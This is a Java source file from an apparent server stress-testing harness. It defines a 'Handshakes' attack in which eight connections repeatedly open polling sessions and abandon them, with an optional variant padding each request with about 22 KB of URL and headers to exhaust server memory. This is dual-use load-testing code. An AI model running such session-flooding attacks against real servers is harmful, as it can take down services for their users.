package dev.carillon.attacks.kinds;

import dev.carillon.attacks.raw.RawConnection;
import dev.carillon.attacks.raw.RawPolling;
import java.io.IOException;

/** Opens sessions and abandons them. The server keeps each one, with its URL and headers, until its first timeout. */
final class Handshakes implements Attack {
    private static final int CONNECTIONS = 8;

    private final String name;
    private final String query;
    private final String headers;

    private Handshakes(String name, String query, String headers) {
        this.name = name;
        this.query = query;
        this.headers = headers;
    }

    static Handshakes plain() {
        return new Handshakes("handshakes", "", "");
    }

    /** With almost as long a URL and as many headers as HTTP servers usually accept: 8 KB and 16 KB. */
    static Handshakes padded() {
        return new Handshakes(
                "padded-handshakes", "&p=" + "q".repeat(7_000), ("X-Padding: " + "h".repeat(3_000) + "\r\n").repeat(5));
    }

    @Override
    public String name() {
        return name;
    }

    @Override
    public String summary() {
        return "8 connections open polling sessions as fast as they can, each with "
                + (query.length() + headers.length()) + " bytes of padding";
    }

    @Override
    public void start(Attacker attacker) {
        attacker.repeat(CONNECTIONS, () -> openSessions(attacker));
    }

    private void openSessions(Attacker attacker) throws IOException {
        try (RawConnection connection = attacker.open()) {
            while (!attacker.isStopped()) {
                RawPolling.handshake(connection, query, headers);
                attacker.count();
            }
        }
    }
}
